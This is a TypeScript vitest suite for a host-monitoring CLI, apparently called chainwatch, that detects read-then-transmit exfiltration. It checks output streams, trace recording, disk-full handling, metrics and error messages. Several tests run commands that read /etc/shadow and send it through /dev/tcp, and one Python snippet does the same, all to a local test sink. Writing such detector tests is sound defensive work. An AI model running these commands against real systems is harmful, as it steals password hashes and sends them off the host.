import { spawn, spawnSync } from 'node:child_process';
import { createServer, type AddressInfo } from 'node:net';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Event } from '../schema/event.js';
import { TraceHeader } from '../schema/trace-header.js';
import { tcpSink } from '../testing/live-harness.js';
import { SmallDisk } from '../testing/small-disk.js';
import { samples, scrape } from '../testing/prometheus.js';

const CLI = join(import.meta.dirname, '../../dist/src/cli/main.js');
let sink: Awaited<ReturnType<typeof tcpSink>>;

beforeAll(async () => {
  if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run npm run build first (npm test does)`);
  sink = await tcpSink();
});
afterAll(async () => sink?.close());

function cli(args: string[], timeout = 90_000) {
  return spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', timeout, maxBuffer: 256 * 1024 * 1024 });
}

describe('chainwatch watch (the real binary)', () => {
  it('watch -- COMMAND: stdout carries only events, stderr only JSON logs, the trace records and validates', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-cli-'));
    const trace = join(dir, 'trace.jsonl');
    const r = cli(['watch', '--events', '-', '--record', trace, '--', 'bash', '-c', `cat /etc/hostname > /dev/tcp/127.0.0.2/${sink.port}`]);
    expect(r.status, r.stderr).toBe(0);
    const lines = r.stdout.split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(10);
    const events = lines.map((l) => Event.parse(JSON.parse(l)));
    const cat = events.find((e) => e.kind === 'process.exec' && e.filename.endsWith('/cat'));
    expect(cat).toBeDefined();
    const send = events.find((e) => e.kind === 'io' && e.dir === 'out' && e.pid === cat!.pid && e.fd === 1);
    expect(send?.res?.fd?.peer).toEqual({ addr: '127.0.0.2', port: sink.port });
    // every stderr line is a pino JSON record
    for (const l of r.stderr.split('\n').filter(Boolean)) expect(() => JSON.parse(l), l).not.toThrow();
    expect(r.stderr).toContain('"msg":"done"');
    // the recording: a valid header, then valid canonical events (unresolved: resolution is re-derived on replay)
    const rec = readFileSync(trace, 'utf8').split('\n').filter(Boolean);
    const header = TraceHeader.parse(JSON.parse(rec[0]!));
    expect(header.scope.mode).toBe('command');
    expect(header.probes[0]!.sha256).toMatch(/^[0-9a-f]{64}$/);
    const recorded = rec.slice(1).map((l) => Event.parse(JSON.parse(l)));
    expect(recorded.length).toBe(events.length);
    expect(recorded.every((e) => e.res === undefined && e.proc === undefined)).toBe(true);
  });

  it('a watch run again (a service restarted) keeps what the earlier run wrote: findings and events appended, the earlier trace moved aside', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-cli-again-'));
    const [findings, events, trace] = ['findings.jsonl', 'events.jsonl', 'run.trace.jsonl'].map((f) => join(dir, f)) as [string, string, string];
    const lines = (f: string): string[] => readFileSync(f, 'utf8').split('\n').filter(Boolean);
    const run = (): void => {
      const r = cli(['watch', '--findings', findings, '--events', events, '--record', trace, '--', 'bash', '-c', `cat /etc/shadow > /dev/tcp/127.0.0.2/${sink.port}`]);
      expect(r.status, r.stderr).toBe(0);
    };
    run();
    const first = { findings: lines(findings), events: lines(events), trace: lines(trace) };
    expect(first.findings.some((l) => JSON.parse(l).rule === 'exfil.read-then-transmit')).toBe(true);
    run();
    const found = lines(findings);
    expect(found.slice(0, first.findings.length)).toEqual(first.findings);
    expect(new Set(found.filter((l) => JSON.parse(l).rule === 'exfil.read-then-transmit').map((l) => JSON.parse(l).process.pid)).size).toBe(2);
    expect(lines(events).slice(0, first.events.length)).toEqual(first.events);
    expect(lines(events).length).toBeGreaterThan(first.events.length);
    expect(lines(join(dir, 'run.1.trace.jsonl'))).toEqual(first.trace);
    expect(TraceHeader.parse(JSON.parse(lines(trace)[0]!)).start_time).not.toBe(TraceHeader.parse(JSON.parse(first.trace[0]!)).start_time);
  });

  it('--events and --record on a full disk: the watch goes on, the finding still comes out and is audited, exit 6 names both files and the counts', () => {
    const disk = new SmallDisk(256 * 1024);
    try {
      disk.fill(0);
      const [events, trace] = ['events.jsonl', 'run.trace.jsonl'].map((f) => join(disk.dir, f)) as [string, string];
      const audit = mkdtempSync(join(tmpdir(), 'cw-cli-audit-'));
      const r = cli(['watch', '--findings', '-', '--events', events, '--record', trace, '--audit', audit, '--', 'bash', '-c', `cat /etc/shadow > /dev/tcp/127.0.0.2/${sink.port}`]);
      expect(r.status, r.stderr).toBe(6);
      expect(r.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { rule: string }).rule)).toContain('exfil.read-then-transmit');
      expect(r.stderr).toMatch(new RegExp(`chainwatch: could not write .*${events} \\(ENOSPC; \\d+ lines not written\\)`));
      expect(r.stderr).toMatch(new RegExp(`${trace} \\(.*; \\d+ lines not written\\)`));
      expect(r.stderr).not.toMatch(/\n\s+at /);
      const records = readFileSync(join(audit, 'audit-000001.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { type: string; source?: string; finding?: { rule: string } });
      expect(records.filter((x) => x.type === 'loss').map((x) => x.source).sort()).toEqual([`output:${events}`, `output:${trace}`].sort());
      expect(records.some((x) => x.type === 'finding' && x.finding!.rule === 'exfil.read-then-transmit')).toBe(true);
    } finally {
      disk.unmount();
    }
  });

  it('--metrics: a Prometheus scrape while watching shows the events, the finding and the state; the endpoint goes with the run', async () => {
    const free = createServer();
    await new Promise<void>((r) => free.listen(0, '127.0.0.1', () => r()));
    const port = (free.address() as AddressInfo).port;
    await new Promise((r) => free.close(r));
    const child = spawn(process.execPath, [CLI, 'watch', '--findings', '-', '--no-audit', '--metrics', `127.0.0.1:${port}`, '--', 'bash', '-c', `cat /etc/shadow > /dev/tcp/127.0.0.2/${sink.port}; sleep 4`], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const exited = new Promise<number | null>((r) => child.on('exit', (code) => r(code)));
    const key = 'chainwatch_findings_total{rule="exfil.read-then-transmit",severity="high",category="exfiltration"}';
    let m = new Map<string, number>();
    for (let i = 0; i < 100 && m.get(key) !== 1; i++) {
      await new Promise((r) => setTimeout(r, 200));
      m = await scrape(port).then((r) => samples(r.body), () => new Map<string, number>());
    }
    expect(m.get(key), stderr).toBe(1);
    expect(m.get('chainwatch_events_total')).toBeGreaterThan(10);
    expect(m.get('chainwatch_processes')).toBeGreaterThan(0);
    expect(m.get('chainwatch_probe_malformed_lines_total')).toBe(0);
    expect(m.get('chainwatch_events_lost_total{source="kernel"}') ?? 0).toBe(0);
    expect(await exited, stderr).toBe(0);
    await expect(scrape(port)).rejects.toThrow();
  }, 90_000);

  it('--record-rotate: segments of about the size asked, each starting with the state; replayed in order they give what the watch found live, a later one alone knows every process', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-cli-rotate-'));
    const trace = join(dir, 'host.trace.jsonl.gz');
    const findings = join(dir, 'findings.jsonl');
    // the secret is read first, ~5 MB of benign file reads follow, then it is sent: the chain spans segments
    const py = `s = open('/etc/shadow').read()
for i in range(9000):
    open('/etc/hostname').read()
import socket
c = socket.create_connection(('127.0.0.2', ${sink.port}))
c.sendall(s.encode())
c.close()`;
    const r = cli(['watch', '--findings', findings, '--record', trace, '--record-rotate', '1M', '--', 'python3', '-c', py]);
    expect(r.status, r.stderr).toBe(0);
    const done = r.stderr.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { msg?: string; summary?: { recorded?: { events: number; segments: number } } }).find((l) => l.msg === 'done')!;
    const segments = done.summary!.recorded!.segments;
    expect(segments).toBeGreaterThanOrEqual(3);
    const files = [...Array.from({ length: segments - 1 }, (_, i) => join(dir, `host.${i + 1}.trace.jsonl.gz`)), trace];
    for (const f of files) expect(existsSync(f), f).toBe(true);
    const live = readFileSync(findings, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; rule: string });
    expect(live.some((f) => f.rule === 'exfil.read-then-transmit')).toBe(true);
    const replayed = cli(['replay', '--findings', '-', ...files]);
    expect(replayed.status, replayed.stderr).toBe(0);
    const again = replayed.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; rule: string });
    expect(new Set(again.map((f) => f.id))).toEqual(new Set(live.map((f) => f.id)));
    const alone = cli(['replay', '--findings', '-', trace]);
    expect(alone.status, alone.stderr).toBe(0);
    const summary = alone.stderr.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { msg?: string; traces?: { unknown_processes: number }[] }).find((l) => l.msg === 'done');
    expect(summary?.traces?.[0]?.unknown_processes).toBe(0);
  }, 120_000);

  it('bad input gets a clear one-line error and exit code 2, never a stack trace', () => {
    const r = cli(['watch', '--pid', '999999999']);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('chainwatch: no process 999999999');
    expect(r.stderr).not.toMatch(/\n\s+at /);
    // each: exit 2 and the one line that says what was wrong
    const refused: [string[], string][] = [
      [['watch', '--pid', '1', '--cgroup', '/x'], 'choose one of --cgroup, --pid or -- COMMAND'],
      [['watch', '--cgroup', '/no/such/cgroup'], 'does not exist'],
      [['watch', '--duration', 'soon'], 'must be a positive number of seconds'],
      [['watch', '--record', '/tmp/x.jsonl', '--record-rotate', '10K'], '--record-rotate must be a size of at least 1M'],
      [['watch', '--record-keep', '3'], '--record-rotate and --record-keep need --record FILE'],
      [['watch', '--metrics', '9464'], '--metrics 9464: expected HOST:PORT'],
      [['watch', '--events-rotate', '1M'], '--events-rotate and --events-keep need --events FILE'],
      [['watch', '--events', '-', '--events-rotate', '1M'], '--events-rotate and --events-keep need --events FILE'],
      [['watch', '--events', '/tmp/e.jsonl', '--events-keep', '2'], '--events-keep needs --events-rotate SIZE'],
      [['watch', '--events', '/tmp/e.jsonl', '--events-rotate', '10K'], '--events-rotate must be a size of at least 1M'],
      // outputs that cannot be written, found after the command was started and held: it is killed, the run ends at once
      [['watch', '--record', '/nonexistent/t.jsonl', '--', 'sleep', '600'], '/nonexistent/t.jsonl: cannot write the recording (--record) here: ENOENT'],
      [['watch', '--findings', '/etc/hostname/f', '--', 'sleep', '600'], '/etc/hostname/f: cannot write the findings (--findings) here: ENOTDIR'],
      [['watch', '--audit', '/etc/hostname', '--', 'sleep', '600'], '/etc/hostname: cannot write the audit log (--audit) here: /etc/hostname is not a folder'],
    ];
    for (const [args, says] of refused) {
      const x = cli(args);
      expect(x.status, args.join(' ')).toBe(2);
      expect(x.stderr, args.join(' ')).toContain(says);
      expect(x.stderr).not.toMatch(/\n\s+at /);
    }
    expect(spawnSync('pgrep', ['-x', '-f', 'sleep 600']).status, 'a held command left behind').toBe(1);
  });
});
